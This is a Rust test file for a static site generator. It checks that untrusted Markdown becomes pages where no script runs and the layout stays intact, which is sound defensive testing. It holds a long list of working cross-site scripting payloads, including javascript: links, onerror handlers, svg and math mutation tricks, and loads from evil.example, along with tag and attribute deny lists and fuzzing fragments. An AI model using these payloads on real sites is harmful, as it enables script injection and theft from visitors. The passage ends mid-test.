//! Documents by people whom nobody trusts: whatever they write, a page runs nothing and keeps its frame.

use std::collections::HashSet;
use std::fmt::Write as _;
use std::path::Path;

use proptest::prelude::*;
use proptest::test_runner::RngSeed;
use scraper::node::Element;
use scraper::{ElementRef, Html, Selector};

use hldsite::config::Config;

use crate::harness::{self, Page, Site};

/// Fails unless a browser would run nothing on this page, and the page's frame is whole.
fn assert_inert(page: &Page, context: &str) {
    let mut wrong = dangers(&page.0);
    wrong.extend(frame(&page.0));
    // What a browser makes of the text may not change when it is written out and read again.
    for text in select(&page.0, ".text") {
        wrong.extend(dangers(&Html::parse_fragment(&text.inner_html())));
    }
    assert!(wrong.is_empty(), "{context}: {wrong:#?}");
}

/// Every page of a site is inert.
fn assert_all_inert(site: &Site) {
    let pages = site.files.iter().filter(|(_, text)| text.starts_with("<!DOCTYPE html>"));
    for (path, _) in pages {
        assert_inert(&site.page(path), path);
    }
}

fn select<'a>(html: &'a Html, css: &str) -> Vec<ElementRef<'a>> {
    html.select(&Selector::parse(css).expect("a selector")).collect()
}

/// Elements that no document may bring. Those that the frame has (`link`, `meta`, `script`) are looked at by themselves.
const ELEMENTS: &[&str] = &[
    "applet",
    "area",
    "audio",
    "base",
    "canvas",
    "dialog",
    "embed",
    "fieldset",
    "form",
    "frame",
    "frameset",
    "iframe",
    "math",
    "noembed",
    "noframes",
    "noscript",
    "object",
    "option",
    "param",
    "plaintext",
    "portal",
    "select",
    "slot",
    "style",
    "svg",
    "template",
    "textarea",
    "track",
    "video",
    "xmp",
];

const ATTRIBUTES: &[&str] = &[
    "accesskey",
    "action",
    "autofocus",
    "background",
    "contenteditable",
    "download",
    "form",
    "formaction",
    "is",
    "ping",
    "popover",
    "popovertarget",
    "srcdoc",
    "srcset",
    "style",
    "tabindex",
    "target",
    "usemap",
    "xlink:href",
];

/// What is wrong with the elements of a page.
fn dangers(html: &Html) -> Vec<String> {
    let mut wrong = Vec::new();
    let mut ids = HashSet::new();
    let main: HashSet<_> = select(html, "main *").iter().map(|element| element.id()).collect();
    // What documents fill; the frame round it has controls of its own.
    let filled: HashSet<_> = select(html, "h1, h1 *, .text, .text *, .facts *, .lead, .backlinks *, .rows *, .outline ul, .outline ul *")
        .iter()
        .map(|element| element.id())
        .collect();
    for element in select(html, "*") {
        let value = element.value();
        let name = value.name();
        let in_main = main.contains(&element.id());
        let is_own = !filled.contains(&element.id()) && select(html, "body").len() == 1;
        let mut report = |what: &str| wrong.push(format!("{what}: {}", element.html().chars().take(200).collect::<String>()));
        // Where a page says what it cannot do without script.
        let is_aside = name == "noscript" && is_own;
        if (ELEMENTS.contains(&name) && !is_aside) || (in_main && matches!(name, "link" | "meta" | "script" | "title" | "head" | "body" | "html" | "main")) {
            report("element");
        }
        let is_theme = |src: &str| Path::new(src).parent().is_some_and(|folder| folder.ends_with("-/theme")) && !src.contains(':');
        // Data that no browser runs, as long as it is all that is in the element.
        let text: String = element.text().collect();
        let is_json = serde_json::from_str::<serde_json::Value>(&text).is_ok() && !text.contains(['<', '>', '&']);
        let is_data = value.attr("type") == Some("application/ld+json") && value.attr("src").is_none() && is_json;
        if name == "script" && !is_data && !(value.attr("src").is_some_and(is_theme) && element.inner_html().is_empty()) {
            report("script");
        }
        let is_field = is_own && matches!(value.id(), Some("hld:home-search" | "hld:search-field"));
        if name == "input" && !is_field && (value.attr("type") != Some("checkbox") || value.attr("disabled").is_none()) {
            report("input");
        }
        if name == "button" && !(is_own && is_control(value)) {
            report("button");
        }
        if value.attr("http-equiv").is_some_and(|kind| kind != "Content-Security-Policy") {
            report("http-equiv");
        }
        for (attribute, text) in value.attrs() {
            let is_landing = attribute == "tabindex" && text == "-1" && (is_own || name == "main");
            let is_scrolled = attribute == "tabindex" && text == "0" && matches!(name, "div" | "pre");
            let is_drawer = matches!(attribute, "popover" | "popovertarget") && is_own;
            let is_source = attribute == "srcset" && name == "source";
            if attribute.starts_with("on") || (ATTRIBUTES.contains(&attribute) && !is_drawer && !is_scrolled && !is_landing && !is_source) {
                report("attribute");
            }
            let is_address = is_source || matches!(attribute, "href" | "src" | "data" | "poster" | "longdesc" | "manifest");
            if is_address && !is_safe(text, name == "img" || is_source) {
                report("address");
            }
        }
        if let Some(id) = value.attr("id")
            && (id.is_empty() || !ids.insert(id.to_owned()))
        {
            report("id");
        }
    }
    wrong
}

/// Whether a button is one of the frame's own.
fn is_control(button: &Element) -> bool {
    let is_known = |name: &str, known: &[&str]| button.attr(name).is_some_and(|value| known.contains(&value));
    matches!(button.id(), Some("hld:theme" | "hld:search"))
        || is_known("data-copy", &["link", "#hld:citation"])
        || is_known("popovertarget", &["hld:tree", "hld:outline"])
        || is_known("data-print", &[""])
        || is_known("data-help", &[""])
}

/// Whether a browser that reads this address (WHATWG URL, section 4.4) runs nothing and leaves for no other host unnoticed.
fn is_safe(address: &str, is_image: bool) -> bool {
    let bare: String = address.trim_matches(|c: char| c <= ' ').chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    let bare = bare.to_lowercase().replace('\\', "/");
    let scheme = bare.split_once(':').map(|(scheme, _)| scheme);
    let is_scheme = |scheme: &&str| {
        scheme.starts_with(|c: char| c.is_ascii_lowercase()) && scheme.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
    };
    match scheme.filter(is_scheme) {
        None => !bare.starts_with("//"),
        Some("data") => is_image && ["png", "jpeg", "gif", "webp"].iter().any(|kind| bare.starts_with(&format!("data:image/{kind}"))),
        Some(scheme) => ["http", "https", "mailto", "tel", "ftp", "irc", "ircs", "xmpp", "matrix"].contains(&scheme),
    }
}

/// What is wrong with the frame of a page.
fn frame(html: &Html) -> Vec<String> {
    let mut wrong = Vec::new();
    let path = |element: &ElementRef<'_>| {
        let mut names: Vec<String> = element.ancestors().filter_map(ElementRef::wrap).map(|outer| shown(&outer)).collect();
        names.reverse();
        names.join(" ")
    };
    for (css, outer, needed) in [
        ("main", "html body", true),
        ("body > header.site", "html body", true),
        (".document-page", "html body main", false),
        (".document-page > article > .text", "html body main div.columns article", false),
        ("nav.outline", "html body main div.columns", false),
        ("nav.tree", "html body main div.columns", false),
        ("footer.document-foot", "html body main div.columns article", false),
    ] {
        let found = select(html, css);
        if found.len() > 1 || (found.is_empty() && needed) {
            wrong.push(format!("{} of `{css}`", found.len()));
        }
        wrong.extend(found.iter().filter(|element| path(element) != outer).map(|element| format!("`{css}` stands in `{}`", path(element))));
    }
    let scripts = select(html, "script");
    if scripts.is_empty() || scripts.iter().any(|script| path(script) != "html head") {
        wrong.push("scripts stand outside the head".to_owned());
    }
    let is_document = !select(html, ".document-page").is_empty();
    if is_document && select(html, "article > .text").len() != 1 {
        wrong.push("no text".to_owned());
    }
    let head: Vec<_> = select(html, "head > *").iter().map(ElementRef::html).take(2).collect();
    if !head.first().is_some_and(|first| first.contains("charset=\"utf-8\"")) {
        wrong.push(format!("the charset is not first: {head:?}"));
    }
    let policy = select(html, "head > :nth-child(2)[http-equiv='Content-Security-Policy']").first().and_then(|meta| meta.value().attr("content"));
    if !policy.is_some_and(|policy| policy.contains("default-src 'none'") && policy.contains("script-src 'self';") && !policy.contains("unsafe-")) {
        wrong.push(format!("the policy is {policy:?}"));
    }
    wrong
}

fn shown(element: &ElementRef<'_>) -> String {
    let value = element.value();
    value.classes().next().filter(|_| value.name() == "div").map_or(value.name().to_owned(), |class| format!("{}.{class}", value.name()))
}

/// What attackers write.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT\n>alert(1)</SCRIPT >",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=\"javascript:alert(1)\">",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<style>body { background: url(javascript:alert(1)) }</style>",
    "<style>@import '//evil.example/x.css';",
    "<div style=\"position:fixed;inset:0;background:url(//evil.example)\">x</div>",
    "<base href=\"//evil.example/\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<form action=\"//evil.example\"><input name=password type=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src onloadstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table><td background=\"javascript:alert(1)\" onclick=alert(1)>x</td></table>",
    "<!-- --><!--> <img src=x onerror=alert(1)> -->",
    "<!--<!-- --><img src=x onerror=alert(1)>-->",
    "<!--- ---!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
    "<a href=\"&#x01;javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\">x</a><a href=\"\\\\evil.example\">x</a><a href=\"/\t/evil.example\">x</a><a href=\"/\\evil.example\">x</a>",
    "<a href=x onclick=alert(1) target=_blank ping=//evil.example download style=x>x</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\"><img srcset=\"//evil.example/x 1x\">",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote><q cite=\"data:text/html,x\">y</q>",
    "<p id=\"hld:main\" class=\"document-page\">x</p><p id=\"hld:outline\">y</p>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](&#x01;javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml;base64,PHN2Zz4=)",
    "[a](vbscript:x) ![b](vbscript:x) ![c](javascript:alert(1))",
    "[a](//evil.example) [b](/\\evil.example) [c](\\\\evil.example) ![d](//evil.example/x.png)",
    "[a](x.md \"\\\" onmouseover=alert(1) x=\\\"\") ![b](x.png '\" onerror=alert(1) x=\"')",
    "![\" onerror=alert(1) x=\"](https://x.example/a.png) ![<script>](b.png)",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x> <https://x.example/\"onclick=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\"><script>alert(1)</script>",
    "'></title></head><body onload=alert(1)>",
    "</div></article></div></main></body></html><img src=x onerror=alert(1)>",
    "-->]]></textarea></style></script><img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt;",
    "javascript:alert(1)",
    "\u{2028}</script>\u{feff}<script>\u{202e}",
    "<a name=\"body\" id=\"__proto__\">x</a><img name=\"cookie\" id=\"location\">",
    "hld-link:99999 <a href=\"hld-link:99999\">x</a> <img src=\"hld-link:-1\"> <a href=\"HLD-LINK:0\">y</a>",
    "{{title}} {{{body}}} {{> partials/badge}} {{#each x}} {{!-- --}} \\{{x}}",
    "\0body\0 \0content\0 \0root\0 \x000\0",
];

/// A document with a payload in one place; the payload for places of one line stands in one.
type Place = (&'static str, fn(&str) -> String);

fn assert_places_are_inert(places: &[Place]) {
    let mut documents = vec![("hub.md".to_owned(), "# Hub\n\ntext\n".to_owned())];
    for (name, place) in places {
        for (number, payload) in PAYLOADS.iter().enumerate() {
            documents.push((format!("{name}/p{number}.md"), format!("{}\n\nSee [the hub](../hub.md) number {number}.\n", place(payload))));
        }
    }
    let documents: Vec<(&str, &str)> = documents.iter().map(|(path, text)| (path.as_str(), text.as_str())).collect();
    let site = harness::site(&documents);
    for page in ["index.html", "404.html", "-/all.html", "-/cited-by/hub.html"] {
        assert!(site.files.contains_key(page), "no {page}");
    }
    assert_all_inert(&site);
    let json: serde_json::Value = serde_json::from_str(&site.files["portal.json"]).expect("JSON");
    assert_eq!(json["docs"].as_array().map(Vec::len), Some(documents.len()));
}

fn line(payload: &str) -> String {
    payload.replace('\n', " ")
}

#[test]
fn payloads_in_blocks_of_text_are_inert() {
    assert_places_are_inert(&[
        ("body", |payload| format!("# T\n\n{payload}\n\nplain words")),
        ("inline", |payload| format!("# T\n\nwords {payload} words")),
        ("heading", |payload| format!("# T\n\n## A {}\n\nx\n\n{}\n---\n", line(payload), line(payload))),
        ("list", |payload| format!("# T\n\n* a\n* {payload}\n* b\n\n1. {payload}")),
        ("task", |payload| format!("# T\n\n- [x] {payload}\n")),
        ("cell", |payload| format!("# T\n\n| a | b |\n|---|--:|\n| {} | x |\n", line(payload).replace('|', "\\|"))),
        ("quote", |payload| format!("# T\n\n> {}\n\n> [!NOTE]\n> {}\n", line(payload), line(payload))),
        ("footnote", |payload| format!("# T\n\nx[^1]\n\n[^1]: {}\n", line(payload))),
    ]);
}

#[test]
fn payloads_in_links_images_and_code_are_inert() {
    assert_places_are_inert(&[
        ("label", |payload| format!("# T\n\nx[^{}]\n\n[^{}]: y\n", line(payload), line(payload))),
        ("text", |payload| format!("# T\n\n[{payload}](../hub.md) [{payload}](https://x.example/)")),
        ("link-title", |payload| format!("# T\n\n[a](../hub.md \"{0}\") [b](https://x.example/ '{0}') ![c](https://x.example/c.png \"{0}\")", line(payload))),
        ("alt", |payload| format!("# T\n\n![{0}](a.png) ![{0}](https://x.example/a.png) ![{0}](javascript:x)", line(payload))),
        ("target", |payload| format!("# T\n\n[a]({0}) [b](<{0}>) ![c]({0}) ![d](<{0}>) <{0}>", line(payload))),
        ("reference", |payload| format!("# T\n\n[a] ![a] [{0}]\n\n[a]: <{0}> \"{0}\"\n[{0}]: x.md\n", line(payload))),
        ("raw", |payload| format!("# T\n\n<a href=\"{0}\" title='{0}'>x</a> <img src='{0}' alt=\"{0}\"> <div id=\"{0}\" class='{0}' {0}>y", line(payload))),
        ("code", |payload| format!("# T\n\n``` {0}\n{payload}\n```\n\n``` html\n{payload}\n```\n\n`{0}`\n\n    {0}\n", line(payload))),
    ]);
}

#[test]
fn payloads_in_titles_and_headers_are_inert() {
    fn yaml(text: &str) -> String {
        format!("'{}'", line(text).replace('\'', "''"))
    }
    assert_places_are_inert(&[
        ("lead", |payload| format!("# {}\n\ntext\n\n## s\n", line(payload))),
        ("title", |payload| format!("---\ntitle: {}\nversion: {}\n---\n# T\n", yaml(payload), yaml(payload))),
        ("people", |payload| format!("---\nauthors: [{}, Ann]\ndate: {}\n---\n# T\n", yaml(payload), yaml(payload))),
        ("status", |payload| format!("---\nstatus: {}\nupdated: {}\n---\n# T\n", yaml(payload), yaml(payload))),
        ("other", |payload| format!("---\ntags: [a, {0}]\nmine: {0}\n{0}: x\nmap:\n  {0}: {0}\n---\n# T\n", yaml(payload))),
        ("unquoted", |payload| format!("---\ntitle: {0}\nstatus: {0}\nauthors: {0}\nx: {0}\n---\n# T\n", line(payload))),
        ("relation", |payload| format!("---\nrequires: [{0}]\nreplaces: {0}\nsee also: {0}\n---\n# T\n", yaml(payload))),
        ("lines", |payload| format!("# T\n\nStatus: {0}\nAuthors: {0}, Ben\nDate: {0}\nMy Key: {0}\nRequires: {0}\n", line(payload))),
    ]);
}

#[test]
fn payloads_in_file_names_are_inert() {
    let names = [
        "<script>alert(1)<script>.md",
        "\"><img src=x onerror=alert(1)>.md",
        "' onclick='alert(1).md",
        "javascript:alert(1).md",
        "data:text/html,x/README.md",
        "javascript:alert(1)/a.md",
        "&lt;img&gt;.md",
        "{{title}}/{{{body}}}.md",
        "\\\\evil.example/a.md",
        "%2f%2fevil.example/a.md",
        "a?b#c/\u{202e}d.md",
    ];
    let mut links = String::new();
    for name in names {
        let _ = write!(links, "[x](<{}>) <a href='{}'>y</a>\n\n", name.replace('<', "\\<"), name.replace('\'', "&#39;"));
    }
    let mut documents: Vec<(&str, &str)> = names.iter().map(|name| (*name, "text\n")).collect();
    documents.push(("links.md", &links));
    let site = harness::site(&documents);
    assert_all_inert(&site);
    assert_eq!(site.build.portal().entries.len(), documents.len());
    let rows = site.page("-/all.html").attributes(".row-title", "href");
    assert_eq!(rows.len(), documents.len());
}

#[test]
fn payloads_in_the_config_are_inert() {
    let payload = "</title><script>alert(1)</script>\"><img src=x onerror=alert(1)>{{x}}";
    let config = format!(
        "title: '{payload}'\nlang: '{payload}'\nstatus:\n  - {{ name: '{payload}', match: [draft], meaning: '{payload}' }}\nsections:\n  security: ['{payload}']\n"
    );
    let documents = [("a.md", "# A\n\nStatus: Draft\n\n## x\n"), ("d/b.md", "# B\n\nStatus: Draft\n\n[a](../a.md)\n"), ("c.md", "# C\n")];
    let site = harness::site_with(&config, &documents, &[]);
    assert_all_inert(&site);
    let home = site.page("index.html");
    assert_eq!(home.texts("h1"), [payload]);
    assert_eq!(home.texts("title"), [payload]);
    assert_eq!(home.texts("h2 .badge")[0], payload);
    assert_eq!(site.page("d/b.html").attributes(".text a.document", "data-status"), [payload]);
}

#[test]
fn an_info_string_is_a_plain_name_or_nothing() {
    let long = "x".repeat(10 * 1024);
    for (info, expected) in [
        ("\"><script>alert(1)</script>", None),
        ("../../x", None),
        ("..\\..\\x", None),
        ("/etc/passwd", None),
        (long.as_str(), None),
        ("c++\" onclick=x", Some("cpp")),
        ("unheard-of", Some("unheard-of")),
        ("<b>", None),
        ("{{x}}", Some("x")),
    ] {
        let site = harness::site(&[("a.md", &format!("# T\n\n```{info}\na < b && \"c\"\n```\n"))]);
        let page = site.page("a.html");
        assert_inert(&page, info);
        let name: Vec<String> = page.attributes("pre.code", "data-lang");
        assert_eq!(name.first().map(String::as_str), expected, "{info:.40}");
        assert_eq!(page.texts("pre.code"), ["a < b && \"c\""], "{info:.40}");
        assert!(site.files["a.html"].len() < 4096, "{info:.40}");
    }
}

#[test]
fn braces_and_slot_words_are_plain_text() {
    for text in ["{{title}}", "{{{body}}}", "{{> partials/badge}}", "{{#each groups}}x{{/each}}", "{{lookup this \"x\"}}", "\\{{x}}", "{{!-- x --}}"] {
        let plain = text.strip_prefix('\\').unwrap_or(text);
        let documents = [
            ("a.md", format!("# {text}\n\n{text}\n\n## {text}\n\n[b](b.md)\n")),
            ("b.md", format!("---\ntitle: '{text}'\nstatus: '{text}'\nauthors: ['{text}']\nmine: '{text}'\n---\n{text}\n")),
        ];
        let documents = documents.each_ref().map(|(path, text)| (*path, text.as_str()));
        let site = harness::site(&documents);
        assert_all_inert(&site);
        let page = site.page("a.html");
        assert_eq!((page.texts("h1"), page.texts(".text > p")), (vec![plain.to_owned()], vec![plain.to_owned(), "b".to_owned()]), "{text}");
        assert_eq!(page.texts("nav.outline a"), [plain]);
        let page = site.page("b.html");
        assert_eq!(page.texts("h1")[0], plain, "{text}");
        assert!(page.texts(".facts dd").iter().any(|value| value.contains(plain)), "{text}");
    }
}

#[test]
fn nul_and_slot_words_are_plain_text() {
    for word in ["body", "content", "title", "root", "outline", "backlinks", "0", "1", ""] {
        let text = format!("x\0{word}\0y");
        let plain = text.replace('\0', "\u{fffd}");
        let documents = [
            ("a.md", format!("# {text}\n\nStatus: {text}\n\n{text}\n\n## {text}\n\n```sql\n{text}\n```\n\n&#0;{word}&#0;")),
            ("b.md", format!("---\ntitle: \"{text}\"\nauthors: ['{text}']\nmine: {text}\n---\n[a](a.md \"{text}\") ![{text}](x.png)\n")),
        ];
        let documents = documents.each_ref().map(|(path, text)| (*path, text.as_str()));
        let site = harness::site(&documents);
        assert_all_inert(&site);
        assert!(site.files.iter().all(|(path, file)| path.ends_with(".png") || !file.contains('\0')), "{word}");
        let page = site.page("a.html");
        assert_eq!(page.texts("h1"), [plain.as_str()]);
        assert_eq!(page.texts(".text > p")[0], plain);
        assert_eq!(page.texts(".text h2, .text pre"), [plain.as_str(), &plain]);
        let page = site.page("b.html");
        assert_eq!(page.texts("h1"), [plain.as_str()]);
        assert_eq!(page.attributes(".text a", "title"), [plain.as_str()]);
    }
}

#[test]
fn anchors_are_unique_and_can_have_any_name() {
    let text = "# T\n\n## \\_\\_proto\\_\\_\n\n## constructor\n\n## toString\n\n## body\n\n## body\n\n## body-1\n\n##\n\n## 🚀\n\n## 支払い\n\n## section\n\n## main\n\n## hld:main\n\n## a {#body}\n";
    let site = harness::site(&[("a.md", text)]);
    let page = site.page("a.html");
    assert_inert(&page, "a.html");
    let expected =
        ["__proto__", "constructor", "tostring", "body", "body-1", "body-1-1", "section", "section-1", "支払い", "section-2", "main", "hldmain", "body-2"];
    assert_eq!(page.attributes(".text h2", "id"), expected);
    let outline = page.attributes("nav.outline a", "href");
    assert_eq!(outline, expected.map(|id| format!("#{id}")));
}

#[test]
fn raw_ids_take_no_anchor_from_headings_and_none_from_the_portal() {
    let raw = "<i id=one>x</i> <a id=two></a> <a name=three></a> <i id='hld:main'>x</i> <i id='hld:outline'>x</i> <i id=''>x</i> <i id='a b'>x</i> <i id=own>x</i> <i id=own>y</i>";
    let text = format!("# T\n\n{raw}\n\n## One\n\n## Two\n\n## Three\n\n## Two\n\n[x](#own) [y](#two-1)\n");
    let page = harness::site(&[("a.md", &text)]).page("a.html");
    assert_inert(&page, "a.html");
    assert_eq!(page.attributes(".text h2", "id"), ["one", "two", "three", "two-1"]);
    assert_eq!(page.attributes(".text i, .text a", "id"), ["own"]);
    assert_eq!(page.attributes(".text p a[href]", "href"), ["#own", "#two-1"]);
}

#[test]
fn raw_html_is_kept_where_the_config_asks_for_it() {
    let text = "# T\n\n<div style=\"color: red\" onclick=\"x()\"><script>x()</script></div>\n\n<List>\n";
    let kept = harness::site_with("unsafe_html: true\n", &[("a.md", text)], &[]).page("a.html");
    assert_eq!((kept.count(".text script"), kept.attributes(".text div", "onclick")), (1, vec!["x()".to_owned()]));
    let cleaned = harness::site(&[("a.md", text)]).page("a.html");
    assert_inert(&cleaned, "a.html");
    assert_eq!((cleaned.count(".text div"), cleaned.texts(".text")), (1, vec!["<List>".to_owned()]));
}

#[test]
fn unbalanced_html_does_not_break_out_of_the_text() {
    for raw in [
        "<details>",
        "<details><summary>x",
        "<div><div><div>",
        "</div></div></div>",
        "</div></article></div></main></body></html>",
        "<table><tr><td>",
        "</table></td></li></ul>",
        "<ul><li><ol><li>",
        "</p></p><p>",
        "<h2><h3>",
        "</h1></h2>",
        "<b><i><a href=x>",
        "</a></b>",
        "<section></section></section>",
        "<nav class=outline id=hld:outline>",
        "<footer class=document-foot>",
        "<article><header class=document-head><main>",
        "<body><html><head>",
        "<frameset><frame>",
        "<form></form></form>",
    ] {
        let document = format!("# T\n\n## Before\n\ntext {raw}\n\n{raw}\n\n> {raw}\n\n* {raw}\n\n## After\n\nplain words\n\n[b](b.md)\n");
        let site = harness::site(&[("a.md", &document), ("b.md", "# B\n\nsee [a](a.md).\n")]);
        let page = site.page("a.html");
        assert_inert(&page, raw);
        assert_eq!(page.texts("nav.outline a"), ["Before", "After"], "{raw}");
        assert_eq!(page.texts("footer.document-foot li > a"), ["B"], "{raw}");
        assert!(page.texts(".text")[0].contains("plain words"), "{raw}");
    }
}

/// Pieces that leave the text around them alone, however they are put together.
const FRAGMENTS: &[&str] = &[
    "<table>",
    "<tr>",
    "<td>",
    "<h2 id=x>",
    "<b>",
    "</b>",
    "<div>",
    "</div>",
    "<details>",
    "<summary>",
    "<a href=x>",
    "</a>",
    "onerror=alert(1)>",
    "<p id=hld:main>",
    "<ul><li>",
    "</li>",
    "</main>",
    "</body>",
    "<form>",
    "<input>",
    "<q cite=javascript:x>",
    "[",
    "](",
    ")",
    "![",
    "*",
    "**",
    "_",
    "`",
    "~~",
    "|",
    "\n|-|\n",
    "\n",
    "\n\n",
    "\n> ",
    "\n* ",
    "\n1. ",
    "\n# ",
    "\n## x\n",
    "\n---\n",
    "\n===\n",
    "[^1]",
    "\n[^1]: ",
    "\n[x]: javascript:alert(1)\n",
    "[x]",
    "\\",
    "&lt;",
    "&#60;",
    "&colon;",
    "<",
    ">",
    "\"",
    "'",
    "javascript:",
    "//evil.example",
    "{{x}}",
    "\0body\0",
    "\t",
    "\u{a0}",
    "\u{200b}",
    "\r",
    "é",
    "<List<String>>",
    "{#x}",
    "<https://x.example>",
    "<svg>",
    "</svg>",
    "<math>",
    "<br>",
];

/// Pieces that make a browser read what follows as something else than text.
const SWALLOWING: &[&str] = &[
    "<a href=\"",
    "\">",
    "<img src=x ",
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<textarea>",
    "</textarea>",
    "<title>",
    "</title>",
    "<xmp>",
    "</xmp>",
    "<noscript>",
    "</noscript>",
    "<plaintext>",
    "<iframe>",
    "</iframe>",
    "<template>",
    "</template>",
    "<select>",
    "<option>",
    "</select>",
    "<!--",
    "-->",
    "--!>",
    "<![CDATA[",
    "]]>",
    "<?",
    "<mglyph>",
    "<mtext>",
    "<annotation-xml encoding=text/html>",
    "<foreignObject>",
    "<noembed>",
    "<object>",
    "<pre>",
    "</pre>",
    "```",
    "```html\n",
    "\n    ",
];

fn fragments(pieces: &'static [&'static [&'static str]]) -> impl Strategy<Value = String> {
    let all: Vec<&'static str> = pieces.iter().flat_map(|part| part.iter().copied()).chain(["word ", "word"]).collect();
    proptest::collection::vec(proptest::sample::select(all), 1..24).prop_map(|parts| parts.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, rng_seed: RngSeed::Fixed(1), ..ProptestConfig::default() })]

    #[test]
    fn any_document_gives_inert_pages(text in fragments(&[FRAGMENTS, SWALLOWING, PAYLOADS])) {
        let site = harness::site(&[("a.md", &text), ("x.md", &format!("[a](a.md) {text}"))]);
        assert_all_inert(&site);
    }

    #[test]
    fn plain_paragraphs_keep_their_words(parts in proptest::collection::vec(fragments(&[FRAGMENTS]), 1..6)) {
        let mut text = String::from("# T\n\n");
        for (number, part) in parts.iter().enumerate() {
            let _ = write!(text, "{part}\n\nkept{number} words, plain{number} text.\n\n");
        }
        let page = harness::site(&[("a.md", &text)]).page("a.html");
        assert_inert(&page, &text);
        let shown = page.texts("main").join(" ");
        for number in 0..parts.len() {
            prop_assert!(shown.contains(&format!("kept{number} words, plain{number} text.")), "{number} of {text:?}\n{shown}");
        }
    }
}

#[test]
fn element_that_is_left_open_never_swallows_the_rest() {
    for tag in ["script", "style", "textarea", "title", "iframe", "xmp", "noscript", "template", "plaintext", "noembed", "noframes"] {
        let text = format!("# T\n\nThe <{tag}> tag.\n\n## After\n\nkept words\n");
        let page = harness::site(&[("a.md", &text)]).page("a.html");
        assert_eq!(page.attributes(".text h2", "id"), ["after"], "{tag}");
        assert_eq!(page.texts(".text p").last().map(String::as_str), Some("kept words"), "{tag}");
    }
    let page = harness::site(&[("a.md", "<div><a href=\"\n\nkept words\n\n## H\n\nend\n")]).page("a.html");
    assert!(page.texts(".text").concat().contains("kept words") && page.attributes(".text h2", "id") == ["h"]);
}

#[test]
fn address_of_the_config_that_is_none_of_the_web_is_refused() {
    for text in ["repository: 'javascript:alert(1)//'\n", "site_url: 'javascript:x'\n", "title: x\nsite_url: //evil.example\n"] {
        let error = Config::parse("hldsite.yaml", text).unwrap_err().to_string();
        let line = text.lines().count();
        assert!(error.starts_with(&format!("hldsite.yaml:{line}:")) && error.contains("is no address on the web"), "{error}");
    }
}

#[test]
fn nul_in_the_config_fills_no_slot() {
    let config = "title: \"a\\0content\\0b\"\nstatus:\n  - { name: \"x\\0y\", match: [draft], meaning: m }\n";
    let site = harness::site_with(config, &[("a.md", "# T\n\nStatus: Draft\n\nwords\n")], &[]);
    assert_eq!(site.page("a.html").texts(".text"), ["words"]);
    assert_eq!(site.page("a.html").count("h1"), 1);
}

#[test]
fn words_of_our_own_in_raw_html_are_not_taken_for_ours() {
    let text = "# T\n\n[x](b.md) <img src=\"hld-link:0\"> <a href=\"hld-link:0\">y</a> <b id=\"hld:fn-1\">z</b>[^1]\n\n<h2 id=\"one\">raw</h2>\n\n## One\n\n[^1]: note\n\n    ## In note\n\n## After\n";
    let page = harness::site(&[("a.md", text), ("b.md", "# B\n")]).page("a.html");
    assert_eq!(page.attributes(".text a.document", "href"), ["b.html"], "one link, once");
